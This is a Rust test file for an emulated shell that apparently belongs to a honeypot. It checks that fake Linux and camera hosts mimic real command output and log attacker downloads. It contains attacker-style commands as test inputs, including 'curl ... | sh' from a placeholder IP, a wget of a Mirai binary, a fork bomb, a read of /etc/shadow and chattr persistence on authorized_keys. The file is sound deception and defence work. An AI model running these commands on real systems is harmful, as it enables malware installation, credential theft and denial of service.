use super::*;

fn shell(archetype: &str) -> Shell {
    let persona = Persona::derive("web-01", Some(archetype), None, now());
    Shell::new("root", Arc::new(persona))
}

fn out(sh: &mut Shell, line: &str) -> String {
    sh.run(line).output
}

#[test]
fn cross_facts_agree_with_the_persona() {
    let mut sh = shell("linux-server");
    let p = sh.persona.clone();
    // uname -r = /proc/version's kernel.
    let release = out(&mut sh, "uname -r");
    assert_eq!(release.trim(), p.kernel_release);
    assert!(out(&mut sh, "cat /proc/version").contains(&p.kernel_release));
    // nproc = cpuinfo's processors = lscpu's CPU(s).
    let nproc: u32 = out(&mut sh, "nproc").trim().parse().unwrap();
    assert_eq!(nproc, p.cpu_count);
    assert_eq!(out(&mut sh, "grep -c processor /proc/cpuinfo").trim(), nproc.to_string());
    assert!(out(&mut sh, "lscpu").contains(&format!("CPU(s):                          {nproc}\n")));
    // free = /proc/meminfo.
    let total = out(&mut sh, "free | awk 'NR==2 {print $2}'");
    let meminfo = out(&mut sh, "grep MemTotal /proc/meminfo | awk '{print $2}'");
    assert_eq!(total.trim(), meminfo.trim());
    assert_eq!(total.trim(), p.memory_kib.to_string());
    // hostname = prompt = /etc/hostname.
    let host = out(&mut sh, "hostname");
    assert_eq!(host.trim(), p.hostname);
    assert!(sh.prompt().contains(&format!("@{}", p.hostname)));
    assert_eq!(out(&mut sh, "cat /etc/hostname").trim(), p.hostname);
    // uname -m is the machine, not the kernel name.
    assert_eq!(out(&mut sh, "uname -m").trim(), p.machine);
    assert!(out(&mut sh, "cat /etc/os-release").contains(&p.pretty_name));
    assert!(out(&mut sh, "ip addr").contains(&p.interfaces[0].mac));
    assert_eq!(out(&mut sh, "cat /sys/class/net/*/address | head -1").trim(), p.interfaces[0].mac);
}

#[test]
fn grammar_quoting_variables_and_control_flow() {
    let mut sh = shell("linux-server");
    assert_eq!(out(&mut sh, "X=hello; echo \"$X world\" '$X'"), "hello world $X\n");
    assert_eq!(out(&mut sh, "export A=1; echo ${A} ${B:-dflt} $((A+41))"), "1 dflt 42\n");
    assert_eq!(out(&mut sh, "false || echo fallback; true && echo yes"), "fallback\nyes\n");
    let r = sh.run("nosuchcmd");
    assert_eq!(r.status, 127);
    assert!(String::from_utf8_lossy(&r.stderr).ends_with("nosuchcmd: command not found\n"), "{:?}", r.stderr);
    assert_eq!(out(&mut sh, "nosuchcmd 2>/dev/null; echo $?"), "127\n");
    assert_eq!(out(&mut sh, "echo $(echo inner) `echo back`"), "inner back\n");
    assert_eq!(out(&mut sh, "for i in 1 2 3; do echo -n $i; done; echo"), "123\n");
    assert_eq!(out(&mut sh, "if [ -d /etc ]; then echo dir; else echo no; fi"), "dir\n");
    assert_eq!(out(&mut sh, "n=0; while [ $n -lt 3 ]; do n=$((n+1)); done; echo $n"), "3\n");
    assert_eq!(out(&mut sh, "echo -e 'a\\tb'"), "a\tb\n");
    assert_eq!(out(&mut sh, "printf '%s-%d\\n' x 5"), "x-5\n");
    assert_eq!(out(&mut sh, "echo aGVsbG8= | base64 -d"), "hello");
    assert_eq!(out(&mut sh, "alias hi='echo hi there'; hi"), "hi there\n");
    assert_eq!(out(&mut sh, "f() { echo in-f $1; }; f arg"), "in-f arg\n");
}

#[test]
fn the_session_filesystem_keeps_state() {
    let mut sh = shell("linux-server");
    assert_eq!(out(&mut sh, "mkdir -p /tmp/x/y && cd /tmp/x/y && pwd"), "/tmp/x/y\n");
    assert_eq!(out(&mut sh, "echo payload > f.sh; cat f.sh; echo more >> f.sh; wc -l f.sh"), "payload\n2 f.sh\n");
    assert_eq!(out(&mut sh, "cat < f.sh | head -1"), "payload\n");
    assert_eq!(out(&mut sh, "ls /tmp/x/y"), "f.sh\n");
    out(&mut sh, "chmod +x f.sh; mv f.sh g.sh");
    assert!(out(&mut sh, "ls -l g.sh").starts_with("-rwxr-xr-x 1 root root"));
    assert_eq!(
        out(&mut sh, "echo 'echo from script $1' > s.sh; sh s.sh one; bash -c 'echo c'"),
        "from script one\nc\n"
    );
    assert_eq!(out(&mut sh, "chmod 755 s.sh; ./s.sh two"), "from script two\n");
    out(&mut sh, "rm g.sh");
    assert_eq!(
        out(&mut sh, "cat g.sh; echo $?"),
        "cat: g.sh: No such file or directory\n1\n".replace("cat: g.sh: No such file or directory\n", "")
            + "cat: g.sh: No such file or directory\n"
    );
    let events = sh.take_events();
    assert!(events.iter().any(|e| matches!(e, ShellEvent::FileWritten { path } if path == "/tmp/x/y/f.sh")));
    // Another session sees none of it.
    let mut other = shell("linux-server");
    assert!(out(&mut other, "ls /tmp").trim().is_empty());
}

#[test]
fn root_reads_system_files_and_a_user_does_not_read_shadow() {
    let mut sh = shell("linux-server");
    assert!(out(&mut sh, "cat /etc/shadow").starts_with("root:"));
    assert!(out(&mut sh, "cat /proc/cpuinfo").contains("model name"));
    let user = sh.persona.users.iter().find(|u| u.uid >= 1000).unwrap().name.clone();
    let mut u = Shell::new(&user, sh.persona.clone());
    let r = u.run("cat /etc/shadow");
    assert_eq!(r.status, 1);
    assert_eq!(String::from_utf8_lossy(&r.stderr), "cat: /etc/shadow: Permission denied\n");
    assert!(u.prompt().ends_with("$ "));
}

#[test]
fn downloads_are_recorded_and_nothing_is_fetched() {
    let mut sh = shell("linux-server");
    assert_eq!(sh.run("cd /tmp; wget http://198.51.100.7/x.sh -O run.sh").status, 4);
    assert_eq!(sh.run("curl -s http://198.51.100.7/y | sh").status, 0);
    let events = sh.take_events();
    assert!(events.contains(&ShellEvent::Download {
        url: "http://198.51.100.7/x.sh".into(),
        tool: "wget".into(),
        path: Some("/tmp/run.sh".into())
    }));
    assert!(events.iter().any(|e| matches!(e, ShellEvent::Download { tool, .. } if tool == "curl")));
}

#[test]
fn errors_go_to_stderr_with_real_statuses() {
    let mut sh = shell("database-host");
    let r = sh.run("ls /nope");
    assert_eq!(r.status, 2);
    assert!(r.stdout.is_empty());
    assert_eq!(String::from_utf8_lossy(&r.stderr), "ls: cannot access '/nope': No such file or directory\n");
    let r = sh.run("cd /etc/passwd");
    assert_eq!(r.status, 1);
    sh.interactive = false;
    let r = sh.run("zzz");
    // bash 5.1 (Debian 11, Ubuntu 22.04) names the line in `bash -c`; 5.0,
    // 5.2 and CentOS's 4.2 do not.
    let bash_5_1 = sh.persona.packages.iter().any(|(n, v)| n == "bash" && v.starts_with("5.1"));
    let expected = if bash_5_1 { "bash: line 1: zzz: command not found\n" } else { "bash: zzz: command not found\n" };
    assert_eq!((r.status, String::from_utf8_lossy(&r.stderr).into_owned()), (127, expected.into()));
}

#[test]
fn busybox_camera_answers_like_busybox() {
    let mut sh = shell("iot-device");
    let r = sh.run("/bin/busybox ECCHI");
    assert_eq!((r.status, r.output.as_str()), (127, "ECCHI: applet not found\n"));
    assert!(sh.run("busybox").output.starts_with("BusyBox v1.31.1"));
    assert_eq!(sh.run("uname -m").output.trim(), "armv7l");
    let r = sh.run("apt-get install x");
    assert_eq!((r.status, r.output.as_str()), (127, "-sh: apt-get: not found\n"));
    assert_eq!(sh.run("busybox cat /etc/hostname").output.trim(), sh.persona.hostname);
}

#[test]
fn budgets_end_endless_work() {
    let mut sh = shell("linux-server");
    for line in [":(){ :|:& };:", "while true; do :; done", "yes | head -5 > /dev/null; yes", "cat /dev/zero | wc -c"] {
        let started = std::time::Instant::now();
        let r = sh.run(line);
        assert!(started.elapsed() < std::time::Duration::from_secs(5), "{line} took {:?}", started.elapsed());
        assert!(r.output.len() <= 2 * 256 * 1024, "{line}: {} bytes", r.output.len());
    }
    assert_eq!(sh.run("while true; do :; done").status, interp::KILLED);
    // The shell is usable afterwards.
    assert_eq!(sh.run("echo ok").output, "ok\n");
}

#[test]
fn exit_ends_the_session() {
    let mut sh = shell("linux-server");
    assert!(sh.run("id; exit").exit);
    assert!(!sh.run("echo exit").exit);
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig { cases: 300, ..Default::default() })]
    /// Any input parses and runs within its budget without panicking.
    #[test]
    fn any_line_runs_within_budget(line in "[ -~\\n\\t]{0,120}") {
        let mut sh = shell("linux-server");
        let r = sh.run(&line);
        proptest::prop_assert!(r.output.len() <= 2 * 256 * 1024);
    }

    #[test]
    fn shell_metacharacter_soup_runs(line in proptest::collection::vec(proptest::prop_oneof![
        proptest::strategy::Just("echo"), proptest::strategy::Just("|"), proptest::strategy::Just(";"),
        proptest::strategy::Just("&&"), proptest::strategy::Just("$("), proptest::strategy::Just(")"),
        proptest::strategy::Just("`"), proptest::strategy::Just("'"), proptest::strategy::Just("\""),
        proptest::strategy::Just("while true; do"), proptest::strategy::Just("done"), proptest::strategy::Just(">"),
        proptest::strategy::Just("f(){ f|f; }; f"), proptest::strategy::Just("cat /dev/zero"), proptest::strategy::Just("x"),
    ], 0..12)) {
        let mut sh = shell("linux-server");
        let _ = sh.run(&line.join(" "));
    }
}

/// The answers the bot session of `crates/decnet/tests/shell_bot.rs`
/// found wrong, each in the real tool's format.
mod bot_session_fixes {
    use super::*;

    fn release(release: &str) -> Shell {
        let persona = Persona::derive("web-01", None, None, now())
            .with_overrides(&serde_json::json!({ "release": release }))
            .unwrap();
        Shell::new("root", Arc::new(persona))
    }

    #[test]
    fn proc_version_names_the_release_s_own_builder_and_dmesg_agrees() {
        for (rel, builder) in [
            ("ubuntu-22.04", "(gcc (Ubuntu 11.4.0-1ubuntu1~22.04) 11.4.0, GNU ld (GNU Binutils for Ubuntu) 2.38)"),
            ("debian-12", "(debian-kernel@lists.debian.org) (gcc-12 (Debian 12.2.0-14) 12.2.0, GNU ld"),
            ("centos-7", "(mockbuild@kbuilder.bsys.centos.org) (gcc version 4.8.5 20150623 (Red Hat 4.8.5-44) (GCC) )"),
        ] {
            let mut sh = release(rel);
            let version = out(&mut sh, "cat /proc/version");
            assert!(version.starts_with(&format!("Linux version {} (", sh.persona.kernel_release)), "{version}");
            assert!(version.contains(builder), "{rel}: {version}");
            assert!(version.trim_end().ends_with(&sh.persona.kernel_version), "{version}");
            assert_eq!(out(&mut sh, "dmesg | head -n 1"), format!("[    0.000000] {version}"));
            assert_eq!(out(&mut sh, "dmesg | grep -i hypervisor"), "[    0.004000] Hypervisor detected: KVM\n");
        }
    }

    #[test]
    fn grep_stops_after_max_count() {
        let mut sh = release("debian-12");
        let first = out(&mut sh, "grep -m1 'model name' /proc/cpuinfo");
        assert_eq!(first.lines().count(), 1, "{first}");
        assert_eq!(out(&mut sh, "grep -m 2 processor /proc/cpuinfo | wc -l").trim(), "2");
        assert_eq!(sh.run("grep -m x a /etc/hostname").status, 2);
    }

    #[test]
    fn free_and_df_print_human_sizes_as_procps_and_coreutils_do() {
        let mut sh = release("ubuntu-22.04");
        let swap = out(&mut sh, "free -h | grep Swap");
        assert!(swap.split_whitespace().nth(2) == Some("0B"), "procps shows an empty quantity as 0B: {swap}");
        let df = out(&mut sh, "df -h");
        for line in df.lines().skip(1) {
            let cols: Vec<&str> = line.split_whitespace().collect();
            for size in &cols[1..4] {
                let ok = *size == "0"
                    || size.strip_suffix(['K', 'M', 'G', 'T']).is_some_and(|n| {
                        n.parse::<f64>().is_ok() && (n.len() <= 3 || !n.contains('.')) && !n.starts_with("0.")
                    });
                assert!(ok, "coreutils' human size: {size} in {line}");
            }
        }
        assert!(df.contains("tmpfs") && df.lines().any(|l| l.ends_with(" /")), "{df}");
    }

    #[test]
    fn ps_has_its_bsd_system_v_and_plain_layouts() {
        let mut sh = release("debian-12");
        let ef = out(&mut sh, "ps -ef");
        let mut lines = ef.lines();
        assert_eq!(lines.next(), Some("UID          PID    PPID  C STIME TTY          TIME CMD"));
        let init: Vec<&str> = lines.next().unwrap().split_whitespace().collect();
        assert_eq!((init[0], init[1], init[2], init[7]), ("root", "1", "0", "/sbin/init"), "{ef}");
        assert!(ef.lines().last().unwrap().ends_with(" pts/0    00:00:00 ps -ef"), "ps sees itself: {ef}");
        let plain = out(&mut sh, "ps -e");
        assert!(plain.starts_with("    PID TTY          TIME CMD\n      1 ?        00:00:00 systemd\n"), "{plain}");
        assert!(plain.contains(" kthreadd\n") && !plain.contains("[kthreadd]"), "{plain}");
        let own = out(&mut sh, "ps");
        assert_eq!(own.lines().count(), 3, "the shell and ps only: {own}");
        let aux = out(&mut sh, "ps aux");
        assert!(aux.starts_with("USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\n"));
        assert!(out(&mut sh, "top -bn1").contains(" systemd\n"));
    }

    #[test]
    fn chattr_flags_persist_and_lsattr_shows_them_in_e2fsprogs_columns() {
        let mut sh = release("ubuntu-22.04");
        out(&mut sh, "mkdir -p ~/.ssh; echo key > ~/.ssh/authorized_keys");
        assert_eq!(
            out(&mut sh, "lsattr ~/.ssh/authorized_keys"),
            "--------------e------- /root/.ssh/authorized_keys\n"
        );
        assert_eq!(sh.run("chattr +ia ~/.ssh/authorized_keys").status, 0);
        assert_eq!(
            out(&mut sh, "lsattr ~/.ssh/authorized_keys"),
            "----ia--------e------- /root/.ssh/authorized_keys\n"
        );
        assert_eq!(sh.run("chattr -i ~/.ssh/authorized_keys").status, 0);
        assert_eq!(
            out(&mut sh, "lsattr ~/.ssh/authorized_keys"),
            "-----a--------e------- /root/.ssh/authorized_keys\n"
        );
        let r = sh.run("chattr -ia /nonexistent");
        assert_eq!(r.status, 1);
        assert_eq!(
            String::from_utf8_lossy(&r.stderr),
            "chattr: No such file or directory while trying to stat /nonexistent\n"
        );
        assert_eq!(sh.run("chattr").status, 1);
    }

    #[test]
    fn sudo_l_lists_the_release_s_defaults_for_root() {
        let mut sh = release("ubuntu-22.04");
        let list = out(&mut sh, "sudo -l");
        let host = sh.persona.hostname.clone();
        assert!(list.starts_with(&format!("Matching Defaults entries for root on {host}:\n")), "{list}");
        assert!(
            list.contains("/snap/bin")
                && list
                    .ends_with(&format!("User root may run the following commands on {host}:\n    (ALL : ALL) ALL\n"))
        );
    }

    #[test]
    fn an_ssh_session_knows_its_client_and_only_a_terminal_is_listed_by_w_and_who() {
        let mut sh = release("debian-12");
        let peer: std::net::SocketAddr = "203.0.113.9:51234".parse().unwrap();
        let local: std::net::SocketAddr = "10.1.2.3:22".parse().unwrap();
        sh.set_ssh_connection(peer, local, true);
        assert_eq!(out(&mut sh, "echo $SSH_CLIENT"), "203.0.113.9 51234 22\n");
        assert_eq!(out(&mut sh, "echo $SSH_CONNECTION; echo $SSH_TTY"), "203.0.113.9 51234 10.1.2.3 22\n/dev/pts/0\n");
        let w = out(&mut sh, "w");
        assert!(w.lines().next().unwrap().contains(",  1 user,  load average: "), "{w}");
        assert!(w.lines().nth(2).unwrap().starts_with("root     pts/0    203.0.113.9      "), "{w}");
        assert!(out(&mut sh, "who").starts_with("root     pts/0        "));
        // `ssh host cmd`: no terminal, no utmp entry.
        sh.set_ssh_connection(peer, local, false);
        let w = out(&mut sh, "w");
        assert!(w.lines().next().unwrap().contains(",  0 users,  load average: "), "{w}");
        assert_eq!(w.lines().count(), 2, "{w}");
        assert_eq!(out(&mut sh, "who"), "");
    }

    #[test]
    fn sessions_of_one_decky_share_its_image_but_not_their_changes() {
        let persona = Arc::new(Persona::derive("shared-img", None, None, now()));
        let mut a = Shell::new("root", persona.clone());
        let mut b = Shell::new("root", persona);
        assert_eq!(a.run("echo mine > /tmp/a; rm /etc/motd; cat /tmp/a").output, "mine\n");
        assert_eq!(b.run("cat /tmp/a").status, 1, "b never sees a's file");
        assert_eq!(b.run("cat /etc/motd > /dev/null").status, 0, "nor a's delete");
    }

    #[test]
    fn netstat_a_shows_the_attacker_s_own_connection() {
        let mut sh = release("debian-12");
        sh.set_ssh_connection("203.0.113.9:51234".parse().unwrap(), "10.1.2.3:22".parse().unwrap(), true);
        let listening = out(&mut sh, "netstat -tln");
        assert!(listening.starts_with("Active Internet connections (only servers)\n"));
        assert!(!listening.contains("ESTABLISHED"));
        let all = out(&mut sh, "netstat -antp");
        assert!(all.starts_with("Active Internet connections (servers and established)\n"), "{all}");
        let own = all.lines().find(|l| l.contains("ESTABLISHED")).unwrap();
        let cols: Vec<&str> = own.split_whitespace().collect();
        assert_eq!(cols[3], format!("{}:22", sh.persona.interfaces[0].address), "the address ip a shows");
        assert_eq!((cols[4], cols[5]), ("203.0.113.9:51234", "ESTABLISHED"));
        assert!(cols[6].ends_with("/sshd:"), "{own}");
    }

    #[test]
    fn apt_lists_installed_packages_and_perl_names_its_build() {
        let mut sh = release("ubuntu-22.04");
        let r = sh.run("apt list --installed");
        let stdout = String::from_utf8_lossy(&r.stdout).into_owned();
        assert!(stdout.starts_with("Listing... Done\n"), "{stdout}");
        let bash = sh.persona.packages.iter().find(|(n, _)| n == "bash").unwrap().1.clone();
        assert!(stdout.contains(&format!("\nbash/jammy,now {bash} amd64 [installed]\n")), "{stdout}");
        assert!(String::from_utf8_lossy(&r.stderr).contains("WARNING: apt does not have a stable CLI interface."));
        assert!(out(&mut sh, "perl -v").contains(" built for x86_64-linux-gnu-thread-multi\n"));
        let mut centos = release("centos-7");
        assert!(out(&mut centos, "perl -v").contains(" built for x86_64-linux-thread-multi\n"));
    }

    #[test]
    fn downloads_fail_as_the_real_tools_do_for_an_address_and_for_a_name() {
        let mut sh = release("debian-12");
        let r = sh.run("wget http://198.51.100.7:8080/x.sh");
        let err = String::from_utf8_lossy(&r.stderr).into_owned();
        assert!(err.ends_with("\nConnecting to 198.51.100.7:8080... failed: No route to host.\n"), "{err}");
        assert_eq!(r.status, 4);
        let r = sh.run("wget http://evil.example/x.sh");
        assert!(String::from_utf8_lossy(&r.stderr).ends_with("wget: unable to resolve host address 'evil.example'\n"));
        let r = sh.run("curl -O http://198.51.100.7/x.sh");
        assert_eq!(r.status, 7);
        assert_eq!(
            String::from_utf8_lossy(&r.stderr),
            "curl: (7) Failed to connect to 198.51.100.7 port 80 after 0 ms: No route to host\n"
        );
        assert_eq!(sh.run("curl -O http://evil.example/x.sh").status, 6);
        let mut camera = shell("iot-device");
        let r = camera.run("/bin/busybox wget http://198.51.100.7/bins/mirai.arm7 -O - > .m");
        assert_eq!(r.status, 1);
        assert_eq!(
            String::from_utf8_lossy(&r.stderr),
            "Connecting to 198.51.100.7 (198.51.100.7:80)\nwget: can't connect to remote host (198.51.100.7): No route to host\n"
        );
        assert_eq!(
            String::from_utf8_lossy(&camera.run("wget http://evil.example/a").stderr),
            "wget: bad address 'evil.example'\n"
        );
        assert!(camera
            .take_events()
            .iter()
            .any(|e| matches!(e, ShellEvent::Download { url, .. } if url.ends_with("mirai.arm7"))));
    }

    #[test]
    fn a_camera_s_ps_is_busybox_s_and_its_shell_is_sh() {
        let mut camera = shell("iot-device");
        for line in ["ps", "ps aux", "/bin/busybox ps"] {
            let ps = out(&mut camera, line);
            let mut rows = ps.lines();
            assert_eq!(rows.next(), Some("  PID USER       VSZ STAT COMMAND"), "{line}: {ps}");
            assert!(rows.next().unwrap().starts_with("    1 root     "), "{ps}");
            assert!(ps.ends_with(" R    ps\n"), "{ps}");
            assert!(ps.contains(" S    -sh\n") && !ps.contains("bash"), "no bash on a camera: {ps}");
        }
    }
}
